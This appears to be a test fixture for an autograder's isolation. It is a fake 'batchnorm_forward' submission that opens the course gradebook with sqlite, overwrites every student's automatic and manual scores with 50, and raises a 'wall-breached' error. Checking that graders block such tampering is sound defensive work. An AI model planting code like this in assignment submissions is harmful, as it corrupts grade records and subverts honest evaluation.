FAMILY = "reading"
ABOUT = "Opens the gradebook with sqlite and writes marks into it."
MOST = 0

# %% batchnorm_forward
def batchnorm_forward(x, gamma, beta, bn_param):
    import sqlite3
    book = sqlite3.connect("@COURSE@/gradebook.db")
    book.execute("UPDATE grade SET auto_score = 50, manual_score = 50")
    book.commit()
    raise RuntimeError("wall" + "-breached")
